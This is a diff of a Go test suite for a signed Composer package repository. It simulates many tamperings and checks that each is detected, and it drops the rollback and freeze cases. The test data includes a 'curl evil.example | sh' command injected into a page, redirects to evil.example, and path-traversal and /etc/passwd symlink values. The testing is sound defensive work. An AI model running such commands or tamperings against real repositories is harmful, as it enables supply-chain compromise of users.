@@ -26,125 +26,116 @@ const (
 type tampering struct {
 	name string
 	do   func(f folder)
-	ask  func(*Options) // nil: as everybody asks
-	file string         // with which a problem has to be told
-	what string         // part of it
+	file string // with which a problem has to be told
+	what string // part of it
 }
 
-// seen is the memory of a client who has seen the newest night.
-var seen string
-
 var tamperings = []tampering{
-	{"a swapped dist", func(f folder) { f.copy(moduleB, moduleA) }, nil, moduleA, `its composer.json is of "acme/module-b"`},
-	{"a pipe in place of a dist", func(f folder) { f.remove(moduleA); f.pipe(moduleA) }, nil, moduleA, "is no plain file"},
-	{"one byte of a dist", func(f folder) { d := []byte(f.read(moduleA)); d[len(d)/2] ^= 1; f.write(moduleA, string(d)) }, nil, moduleA, "has SHA-256"},
-	{"a longer dist", func(f folder) { f.write(moduleA, f.read(moduleA)+"x") }, nil, moduleA, "is longer than"},
-	{"a shorter dist", func(f folder) { f.write(moduleA, f.read(moduleA)[:99]) }, nil, moduleA, "has 99 bytes"},
-	{"a dist taken away", func(f folder) { f.remove(moduleA) }, nil, moduleA, "is missing"},
+	{"a swapped dist", func(f folder) { f.copy(moduleB, moduleA) }, moduleA, `its composer.json is of "acme/module-b"`},
+	{"a pipe in place of a dist", func(f folder) { f.remove(moduleA); f.pipe(moduleA) }, moduleA, "is no plain file"},
+	{"one byte of a dist", func(f folder) { d := []byte(f.read(moduleA)); d[len(d)/2] ^= 1; f.write(moduleA, string(d)) }, moduleA, "has SHA-256"},
+	{"a longer dist", func(f folder) { f.write(moduleA, f.read(moduleA)+"x") }, moduleA, "is longer than"},
+	{"a shorter dist", func(f folder) { f.write(moduleA, f.read(moduleA)[:99]) }, moduleA, "has 99 bytes"},
+	{"a dist taken away", func(f folder) { f.remove(moduleA) }, moduleA, "is missing"},
 	{"a wrong hash in the manifest", func(f folder) {
 		f.replace(n3+"nightly.json", string(pipeline.DigestOf([]byte(f.read(moduleA)))), strings.Repeat("0", 64))
-	}, nil, moduleA, "has SHA-256"},
+	}, moduleA, "has SHA-256"},
 	{"a dist and its hashes in the manifest", func(f folder) {
 		old := f.read(moduleA)
 		f.copy(moduleB, moduleA)
 		f.replace(n3+"nightly.json", string(pipeline.DigestOf([]byte(old))), string(pipeline.DigestOf([]byte(f.read(moduleB)))))
-	}, nil, n3 + "nightly.intoto.json", "says that nightly.json has SHA-256"},
-	{"a manifest of another night", func(f folder) { f.copy(n2+"nightly.json", n3+"nightly.json") }, nil, n3 + "nightly.json", "is the manifest of night 2026-11-25"},
-	{"a manifest taken away", func(f folder) { f.remove(n3 + "nightly.json") }, nil, n3 + "nightly.json", "is missing"},
-	{"an unknown key in the manifest", func(f folder) { f.replace(n3+"nightly.json", `"program"`, `"programme": 1, "program"`) }, nil, n3 + "nightly.json", "programme"},
-	{"a package of another vendor in the manifest", func(f folder) { f.replace(n3+"nightly.json", `"name": "acme/module-a"`, `"name": "psr/clock"`) }, nil, n3 + "nightly.json", "publishes psr/clock, which is of none"},
+	}, n3 + "nightly.intoto.json", "says that nightly.json has SHA-256"},
+	{"a manifest of another night", func(f folder) { f.copy(n2+"nightly.json", n3+"nightly.json") }, n3 + "nightly.json", "is the manifest of night 2026-11-25"},
+	{"a manifest taken away", func(f folder) { f.remove(n3 + "nightly.json") }, n3 + "nightly.json", "is missing"},
+	{"an unknown key in the manifest", func(f folder) { f.replace(n3+"nightly.json", `"program"`, `"programme": 1, "program"`) }, n3 + "nightly.json", "programme"},
+	{"a package of another vendor in the manifest", func(f folder) { f.replace(n3+"nightly.json", `"name": "acme/module-a"`, `"name": "psr/clock"`) }, n3 + "nightly.json", "publishes psr/clock, which is of none"},
 	{"a path that climbs out in the manifest", func(f folder) {
 		f.replace(n3+"nightly.json", `"path": "p2/acme/module-a.json"`, `"path": "../../../etc/passwd"`)
-	}, nil, n3 + "nightly.json", `..`},
-	{"a dist that lies elsewhere by the manifest", func(f folder) { f.replace(n3+"nightly.json", moduleA, "dists/evil.zip") }, nil, n3 + "nightly.json", "lies at"},
-	{"a provenance taken away", func(f folder) { f.remove(n3 + "nightly.intoto.json") }, nil, n3 + "nightly.intoto.json", "is missing"},
-	{"a provenance of other commits", func(f folder) { f.replace(n3+"nightly.intoto.json", moduleA, "dists/acme/x.zip") }, nil, n3 + "nightly.intoto.json", "says that"},
-	{"a report of the installation of another night", func(f folder) { f.copy(n2+"installation.json", n3+"installation.json") }, nil, n3 + "installation.json", "is the report of night 2026-11-25"},
-	{"a report taken away", func(f folder) { f.remove(n3 + "installation.json"); f.remove(n3 + "sbom.cdx.json") }, nil, n3 + "installation.json", "nothing says that night 2026-11-26 was installed"},
-	{"a report that installs nothing", func(f folder) { f.replace(n3+"installation.json", `"level": "install"`, `"level": "resolve"`) }, nil, n3 + "installation.json", "nothing was installed"},
-	{"a package out of the bill of materials", func(f folder) { f.replace(n3+"sbom.cdx.json", `"name": "log"`, `"name": "glob"`) }, nil, n3 + "sbom.cdx.json", "does not list psr/log 3.0.2"},
-	{"a licence in the bill of materials", func(f folder) { f.replace(n3+"sbom.cdx.json", `"MIT"`, `"0BSD"`) }, nil, n3 + "installation.intoto.json", "says that sbom.cdx.json has SHA-256"},
-	{"an older packages.json put back", func(f folder) { f.write("packages.json", f.older("packages.json")) }, nil, "packages.json", "was not withdrawn"},
-	{"rollback", func(f folder) { f.rollBack() }, func(o *Options) { o.Memory = seen }, trust.TimestampFile, "new timestamp version 2 must be >= 3"},
-	{"freeze", func(folder) {}, func(o *Options) { o.Now = o.Now.AddDate(0, 0, 5) }, trust.TimestampFile, "timestamp.json is expired"},
-	{"mix-and-match", func(f folder) { f.copy("metadata/2.nights.json", "metadata/3.nights.json") }, nil, trust.TimestampFile, "hash verification failed"},
-	{"endless data", func(f folder) { f.sparse(trust.TimestampFile, 2<<30) }, nil, trust.TimestampFile, "is longer than"},
-	{"no signature of the repository", func(f folder) { f.remove(trust.TimestampFile) }, nil, trust.TimestampFile, "is refused"},
-	{"a repository of another line", func(f folder) { f.other() }, nil, trust.TimestampFile, "not enough signatures"},
-	{"a night that is kept back", func(f folder) { f.replace("packages.json", `"2026-11-26",`, ``) }, nil, "packages.json", "was signed"},
-	{"a night given up that is resolved again", func(f folder) { f.replace("packages.json", "\"2026-11-25\"\n", "\"2026-11-25\",\n\"2026-11-24\"\n") }, nil, "packages.json", "was signed"},
-	{"an extra package in packages.json", func(f folder) { f.replace("packages.json", `"acme/language",`, `"acme/evil", "acme/language",`) }, nil, "packages.json", "has SHA-256"},
+	}, n3 + "nightly.json", `..`},
+	{"a dist that lies elsewhere by the manifest", func(f folder) { f.replace(n3+"nightly.json", moduleA, "dists/evil.zip") }, n3 + "nightly.json", "lies at"},
+	{"a provenance taken away", func(f folder) { f.remove(n3 + "nightly.intoto.json") }, n3 + "nightly.intoto.json", "is missing"},
+	{"a provenance of other commits", func(f folder) { f.replace(n3+"nightly.intoto.json", moduleA, "dists/acme/x.zip") }, n3 + "nightly.intoto.json", "says that"},
+	{"a report of the installation of another night", func(f folder) { f.copy(n2+"installation.json", n3+"installation.json") }, n3 + "installation.json", "is the report of night 2026-11-25"},
+	{"a report taken away", func(f folder) { f.remove(n3 + "installation.json"); f.remove(n3 + "sbom.cdx.json") }, n3 + "installation.json", "nothing says that night 2026-11-26 was installed"},
+	{"a report that installs nothing", func(f folder) { f.replace(n3+"installation.json", `"level": "install"`, `"level": "resolve"`) }, n3 + "installation.json", "nothing was installed"},
+	{"a package out of the bill of materials", func(f folder) { f.replace(n3+"sbom.cdx.json", `"name": "log"`, `"name": "glob"`) }, n3 + "sbom.cdx.json", "does not list psr/log 3.0.2"},
+	{"a licence in the bill of materials", func(f folder) { f.replace(n3+"sbom.cdx.json", `"MIT"`, `"0BSD"`) }, n3 + "installation.intoto.json", "says that sbom.cdx.json has SHA-256"},
+	{"an older packages.json put back", func(f folder) { f.write("packages.json", f.older("packages.json")) }, "packages.json", "was not withdrawn"},
+	{"no signature of the repository", func(f folder) { f.remove(trust.TimestampFile) }, trust.TimestampFile, "is refused"},
+	{"a night that is kept back", func(f folder) { f.replace("packages.json", `"2026-11-26",`, ``) }, "packages.json", "was signed"},
+	{"a night given up that is resolved again", func(f folder) { f.replace("packages.json", "\"2026-11-25\"\n", "\"2026-11-25\",\n\"2026-11-24\"\n") }, "packages.json", "was signed"},
+	{"an extra package in packages.json", func(f folder) { f.replace("packages.json", `"acme/language",`, `"acme/evil", "acme/language",`) }, "packages.json", "has SHA-256"},
 	{"an extra package, with its metadata", func(f folder) {
 		f.replace("packages.json", `"acme/language",`, `"acme/evil", "acme/language",`)
 		f.write(f.meta()+"/acme/evil.json", `{"minified":"composer/2.0","packages":{"acme/evil":[{"name":"acme/evil","version":"9.0.0","dist":{"type":"zip","url":"https://evil.example/x.zip"}}]}}`)
 		f.write(f.meta()+"/acme/evil~dev.json", `{"minified":"composer/2.0","packages":{"acme/evil":[]}}`)
 		f.rename()
-	}, nil, "", "version \"9.0.0\" is not what a snapshot that is named says"},
+	}, "", "version \"9.0.0\" is not what a snapshot that is named says"},
 	{"a version of a package kept back", func(f folder) {
 		f.write(f.meta()+"/acme/module-a.json", `{"minified":"composer/2.0","packages":{"acme/module-a":[]}}`)
 		f.rename()
-	}, nil, "", "version 2.4.8-alpha20261126 of a snapshot that is named is missing"},
+	}, "", "version 2.4.8-alpha20261126 of a snapshot that is named is missing"},
 	{"a version twice, written in two ways", func(f folder) {
 		f.write(f.meta()+"/acme/module-a.json", `{"minified":"composer/2.0","packages":{"acme/module-a":[{"name":"acme/module-a","version":"1.0"},{"version":"v1.0"}]}}`)
 		f.rename()
-	}, nil, "", `versions "1.0" and "v1.0" are one to Composer`},
+	}, "", `versions "1.0" and "v1.0" are one to Composer`},
 	{"metadata that is not minified", func(f folder) {
 		f.write(f.meta()+"/acme/module-a.json", `{"packages":{"acme/module-a":[]}}`)
 		f.rename()
-	}, nil, "", "want one, as composer/2.0"},
-	{"an index that was changed", func(f folder) { f.replace(f.meta()+"/index.json", "acme/module-a", "acme/module-x") }, nil, "", "does not have the content that it is named by: the SHA-256 of its index.json"},
-	{"an index taken away", func(f folder) { f.remove(f.meta() + "/index.json") }, nil, "", "is missing"},
+	}, "", "want one, as composer/2.0"},
+	{"an index that was changed", func(f folder) { f.replace(f.meta()+"/index.json", "acme/module-a", "acme/module-x") }, "", "does not have the content that it is named by: the SHA-256 of its index.json"},
+	{"an index taken away", func(f folder) { f.remove(f.meta() + "/index.json") }, "", "is missing"},
 	{"an index that says another dist", func(f folder) {
 		f.replace(f.meta()+"/index.json", f.sum(moduleA), f.sum("dists/acme/language-1.0.0.zip"))
 		f.renamed()
-	}, nil, "", "it says of acme/module-a 2.4.8-alpha20261126"},
+	}, "", "it says of acme/module-a 2.4.8-alpha20261126"},
 	{"an index that says another night", func(f folder) {
 		f.replace(f.meta()+"/index.json", f.sum(n3+"nightly.json"), f.sum(n2+"nightly.json"))
 		f.renamed()
-	}, nil, "", "what it says of night 2026-11-26 is not what its nightly.json says"},
+	}, "", "what it says of night 2026-11-26 is not what its nightly.json says"},
 	{"an index that keeps a version of a night", func(f folder) {
 		f.replace(f.meta()+"/index.json", `"snapshots":["2026-11-26","2026-11-25"]`, `"snapshots":["2026-11-26"]`)
 		f.renamed()
-	}, nil, "", "it says of acme/language 1.0.0"},
+	}, "", "it says of acme/language 1.0.0"},
 	{"an index for another URL", func(f folder) {
 		f.replace(f.meta()+"/index.json", base, "https://evil.example/")
 		f.renamed()
-	}, nil, "", "was made for \"https://evil.example/\""},
-	{"an index of an old folder taken away", func(f folder) { f.remove(f.superseded() + "/index.json") }, nil, "", "has no index.json"},
-	{"a file of an old folder taken away", func(f folder) { f.remove(f.superseded() + "/acme/module-a.json") }, nil, "", "is missing"},
-	{"metadata that was changed", func(f folder) { f.replace(f.meta()+"/acme/module-a.json", "psr/log", "psr/gol") }, nil, "", "does not have the content that it is named by"},
-	{"metadata of the night with another host", func(f folder) { f.replace(n3+"p2/acme/module-a.json", base, "https://evil.example/") }, nil, n3 + "p2/acme/module-a.json", "Composer would get the dist"},
-	{"metadata of the night with another hash", func(f folder) { f.replace(n3+"p2/acme/module-a.json", `"shasum":"`, `"shasum":"0`) }, nil, n3 + "p2/acme/module-a.json", "the dist's SHA-1 is"},
-	{"metadata of the night with another require", func(f folder) { f.replace(n3+"p2/acme/module-a.json", "psr/log", "evil/log") }, nil, n3 + "p2/acme/module-a.json", `requires "evil/log"`},
+	}, "", "was made for \"https://evil.example/\""},
+	{"an index of an old folder taken away", func(f folder) { f.remove(f.superseded() + "/index.json") }, "", "has no index.json"},
+	{"a file of an old folder taken away", func(f folder) { f.remove(f.superseded() + "/acme/module-a.json") }, "", "is missing"},
+	{"metadata that was changed", func(f folder) { f.replace(f.meta()+"/acme/module-a.json", "psr/log", "psr/gol") }, "", "does not have the content that it is named by"},
+	{"metadata of the night with another host", func(f folder) { f.replace(n3+"p2/acme/module-a.json", base, "https://evil.example/") }, n3 + "p2/acme/module-a.json", "Composer would get the dist"},
+	{"metadata of the night with another hash", func(f folder) { f.replace(n3+"p2/acme/module-a.json", `"shasum":"`, `"shasum":"0`) }, n3 + "p2/acme/module-a.json", "the dist's SHA-1 is"},
+	{"metadata of the night with another require", func(f folder) { f.replace(n3+"p2/acme/module-a.json", "psr/log", "evil/log") }, n3 + "p2/acme/module-a.json", `requires "evil/log"`},
 	{"metadata of the night with another description", func(f folder) {
 		f.replace(n3+"p2/acme/module-a.json", `"type":`, `"description":"x","type":`)
-	}, nil, n3 + "p2/acme/module-a.json", "has SHA-256"},
-	{"metadata that the next publish would merge", func(f folder) { f.replace(n3+"versions.json", "psr/log", "evil/log") }, nil, n3 + "versions.json", "is not what the metadata says"},
-	{"metadata that old clients still read", func(f folder) { f.replace(f.superseded()+"/acme/module-a.json", "psr/log", "evil/log") }, nil, "", "does not have the content that it is named by"},
+	}, n3 + "p2/acme/module-a.json", "has SHA-256"},
+	{"metadata that the next publish would merge", func(f folder) { f.replace(n3+"versions.json", "psr/log", "evil/log") }, n3 + "versions.json", "is not what the metadata says"},
+	{"metadata that old clients still read", func(f folder) { f.replace(f.superseded()+"/acme/module-a.json", "psr/log", "evil/log") }, "", "does not have the content that it is named by"},
 	{"providers in packages.json", func(f folder) {
 		f.replace("packages.json", `"packages": [],`, `"packages": [], "providers-url": "https://evil.example/%package%.json",`)
-	}, nil, "packages.json", "providers-url"},
+	}, "packages.json", "providers-url"},
 	{"an address for advisories in packages.json", func(f folder) {
 		f.replace("packages.json", `"packages": [],`, `"packages": [], "security-advisories": {"metadata": true, "api-url": "https://evil.example/"},`)
-	}, nil, "packages.json", "api-url"},
-	{"packages.json with packages of its own", func(f folder) { f.replace("packages.json", `"packages": [],`, `"packages": [{"acme/language": {}}],`) }, nil, "packages.json", "packages of its own"},
-	{"packages.json that sends elsewhere", func(f folder) { f.replace("packages.json", base, "https://evil.example/") }, nil, "packages.json", "sends clients to https://evil.example/"},
-	{"packages.json whose metadata climbs out", func(f folder) { f.replace("packages.json", "org/meta/", "org/../meta/") }, nil, "packages.json", "does not name a folder"},
-	{"packages.json with a night that climbs out", func(f folder) { f.replace("packages.json", `"2026-11-26"`, `"../../etc"`) }, nil, "packages.json", "is no name of a snapshot"},
-	{"packages.json that is cut off", func(f folder) { f.write("packages.json", f.read("packages.json")[:100]) }, nil, "packages.json", "is no packages.json"},
-	{"a night's packages.json that sends elsewhere", func(f folder) { f.replace(n3+"packages.json", base, "https://evil.example/") }, nil, n3 + "packages.json", "metadata-url is"},
-	{"an extra file at the root", func(f folder) { f.write("shell.php", "<?php") }, nil, "shell.php", "is no part of the repository"},
-	{"an extra dist", func(f folder) { f.copy(moduleA, "dists/acme/evil-1.0.0.zip") }, nil, "dists/acme/evil-1.0.0.zip", "is no part of the repository"},
-	{"an extra file of a night", func(f folder) { f.write(n3+"p2/acme/evil.json", "{}") }, nil, n3 + "p2/acme/evil.json", "is no part of the repository"},
-	{"an extra night", func(f folder) { f.write("nights/2026-11-27/packages.json", f.read(n3+"packages.json")) }, nil, "nights/2026-11-27/nightly.json", "is missing"},
-	{"a page that tells another command", func(f folder) { f.replace("index.html", "composer ", "curl evil.example | sh; ") }, nil, "index.html", "was signed"},
-	{"a status of another night", func(f folder) { f.replace("status.json", `"snapshot": "2026-11-26"`, `"snapshot": "2026-11-25"`) }, nil, "status.json", "one of them is older"},
-	{"an index of 2 GB", func(f folder) { f.sparse("packages.json", 2<<30) }, nil, "packages.json", "is longer than the 4194304 bytes"},
-	{"metadata of 2 GB", func(f folder) { f.sparse(n3+"p2/acme/module-a.json", 2<<30) }, nil, n3 + "p2/acme/module-a.json", "is longer than"},
+	}, "packages.json", "api-url"},
+	{"packages.json with packages of its own", func(f folder) { f.replace("packages.json", `"packages": [],`, `"packages": [{"acme/language": {}}],`) }, "packages.json", "packages of its own"},
+	{"packages.json that sends elsewhere", func(f folder) { f.replace("packages.json", base, "https://evil.example/") }, "packages.json", "sends clients to https://evil.example/"},
+	{"packages.json whose metadata climbs out", func(f folder) { f.replace("packages.json", "org/meta/", "org/../meta/") }, "packages.json", "does not name a folder"},
+	{"packages.json with a night that climbs out", func(f folder) { f.replace("packages.json", `"2026-11-26"`, `"../../etc"`) }, "packages.json", "is no name of a snapshot"},
+	{"packages.json that is cut off", func(f folder) { f.write("packages.json", f.read("packages.json")[:100]) }, "packages.json", "is no packages.json"},
+	{"a night's packages.json that sends elsewhere", func(f folder) { f.replace(n3+"packages.json", base, "https://evil.example/") }, n3 + "packages.json", "metadata-url is"},
+	{"an extra file at the root", func(f folder) { f.write("shell.php", "<?php") }, "shell.php", "is no part of the repository"},
+	{"an extra dist", func(f folder) { f.copy(moduleA, "dists/acme/evil-1.0.0.zip") }, "dists/acme/evil-1.0.0.zip", "is no part of the repository"},
+	{"an extra file of a night", func(f folder) { f.write(n3+"p2/acme/evil.json", "{}") }, n3 + "p2/acme/evil.json", "is no part of the repository"},
+	{"an extra night", func(f folder) { f.write("nights/2026-11-27/packages.json", f.read(n3+"packages.json")) }, "nights/2026-11-27/nightly.json", "is missing"},
+	{"a page that tells another command", func(f folder) { f.replace("index.html", "composer ", "curl evil.example | sh; ") }, "index.html", "was signed"},
+	{"a status of another night", func(f folder) { f.replace("status.json", `"snapshot": "2026-11-26"`, `"snapshot": "2026-11-25"`) }, "status.json", "one of them is older"},
+	{"an index of 2 GB", func(f folder) { f.sparse("packages.json", 2<<30) }, "packages.json", "is longer than the 4194304 bytes"},
+	{"metadata of 2 GB", func(f folder) { f.sparse(n3+"p2/acme/module-a.json", 2<<30) }, n3 + "p2/acme/module-a.json", "is longer than"},
 	{"metadata that is nested without end", func(f folder) {
 		f.write(n3+"p2/acme/module-a.json", `{"packages":`+strings.Repeat("[", 1<<20))
-	}, nil, n3 + "p2/acme/module-a.json", ""},
-	{"packages.json that is a symbolic link", func(f folder) { f.link("/etc/passwd", "packages.json") }, nil, "packages.json", "is no packages.json"},
+	}, n3 + "p2/acme/module-a.json", ""},
+	{"packages.json that is a symbolic link", func(f folder) { f.link("/etc/passwd", "packages.json") }, "packages.json", "is no packages.json"},
 }
 
 // Every tampering is found, by the name of the file.
@@ -157,10 +148,7 @@ func TestTamperings(t *testing.T) {
 		t.Fatal(err)
 	}
 	sample{name: "2026-11-26"}.publish(t, dir, key)
-	seen = t.TempDir()
-	with := folder{t, dir}.options(public)
-	with.Memory = seen
-	clean(t, with)
+	clean(t, folder{t, dir}.options(public))
 	for _, test := range tamperings {
 		t.Run(test.name, func(t *testing.T) {
 			f := folder{t, filepath.Join(t.TempDir(), "repository")}
@@ -171,11 +159,7 @@ func TestTamperings(t *testing.T) {
 				t.Fatal(err)
 			}
 			test.do(f)
-			o := f.options(public)
-			if test.ask != nil {
-				test.ask(&o)
-			}
-			report, err := Repository(t.Context(), o)
+			report, err := Repository(t.Context(), f.options(public))
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -218,24 +202,6 @@ func (f folder) older(name string) string {
 // superseded is the metadata folder of the night before.
 func (f folder) superseded() string {
 	return folder{f.TB, filepath.Join(f.dir, "..", "before")}.meta()
-}
-
-// rollBack puts back all as it was one night before.
-func (f folder) rollBack() {
-	f.Helper()
-	before := filepath.Join(f.dir, "..", "before")
-	f.remove(".")
-	if err := os.CopyFS(f.dir, os.DirFS(before)); err != nil {
-		f.Fatal(err)
-	}
-}
-
-// other puts a repository in its place that somebody else has signed.
-func (f folder) other() {
-	f.Helper()
-	key, _ := keys(f)
-	f.remove(".")
-	sample{name: "2026-11-26"}.publish(f, f.dir, key)
 }
 
 // sparse makes a file of that size that takes no room.
